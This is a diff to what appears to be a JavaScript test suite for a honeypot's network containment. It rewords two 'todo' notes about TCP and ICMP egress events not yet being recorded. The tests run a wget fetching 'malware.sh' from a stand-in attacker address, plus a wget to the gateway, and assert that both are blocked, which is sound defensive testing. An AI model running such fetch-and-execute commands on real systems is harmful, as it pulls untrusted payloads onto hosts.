@@ -164,7 +164,7 @@ contain:
 
   test('wget, nc and a ping sweep toward 203.0.113.0/24 are dropped and recorded', {
     skip,
-    todo: 'H5: blocking holds, UDP attempts are recorded, but the TCP/ICMP egress events are not yet seen here',
+    todo: 'known gap: blocked, but TCP and ICMP attempts from a Docker bridge leave no egress event yet (UDP does)',
   }, async () => {
     const wget = await inHoneypot('wget -q -T 2 -O- http://203.0.113.10/malware.sh');
     assert.notEqual(wget.code, 0, `wget must fail: ${wget.out}`);
@@ -200,7 +200,7 @@ contain:
 
   test('attempts at the gateway itself are dropped and recorded', {
     skip,
-    todo: 'H5: blocking holds, UDP attempts are recorded, but the TCP/ICMP egress events are not yet seen here',
+    todo: 'known gap: blocked, but TCP and ICMP attempts from a Docker bridge leave no egress event yet (UDP does)',
   }, async () => {
     const wget = await inHoneypot(`wget -q -T 2 -O- http://${BRIDGE}:2222/`);
     assert.notEqual(wget.code, 0, `wget to the gateway must fail: ${wget.out}`);
